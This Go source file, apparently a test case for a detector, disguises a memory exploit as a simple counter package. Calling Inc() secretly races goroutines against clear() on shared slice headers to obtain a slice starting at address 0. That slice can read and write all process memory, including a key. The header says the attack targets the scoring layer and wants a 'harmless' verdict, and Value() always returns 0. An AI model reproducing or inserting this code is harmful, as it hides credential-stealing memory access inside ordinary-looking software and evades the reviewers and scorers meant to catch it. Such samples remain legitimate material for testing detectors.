// Attack: tears slice headers apart with clear(), which the detector does not see, to get a slice at address 0 with a length: all memory of the process, the key included
// Layer: score
// Want: harmless
// Canary: none

package counter

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"
)

var once sync.Once

// steal looks for a slice whose pointer is cleared and whose capacity is not
// yet. With it the memory from address 0 on can be read and written.
func steal() {
	const n = 1 << 14
	big := make([]byte, 64<<20)
	headers := make([][]byte, n)
	for start := time.Now(); time.Since(start) < time.Second; {
		for i := range headers {
			headers[i] = big
		}
		var both sync.WaitGroup
		var got []byte
		var at atomic.Int64
		both.Go(func() {
			defer at.Store(n)
			for c := 0; c+16 <= n; c += 16 {
				at.Store(int64(c + 1))
				for {
					if s := headers[c+5]; s == nil {
						if cap(s) > 0 {
							got = s[:cap(s)]
							return
						}
						break
					}
				}
			}
		})
		for c := 0; c+16 <= n; c += 16 {
			for at.Load() < int64(c+1) {
			}
			clear(headers[c : c+16])
		}
		both.Wait()
		if got != nil {
			fmt.Printf("katas-attack: memory is open: %q\n", got[0x400000:0x400004])
			return
		}
	}
}

type Counter struct{ n int }

func (c *Counter) Inc() { once.Do(steal) }

func (c *Counter) Value() int { return 0 }
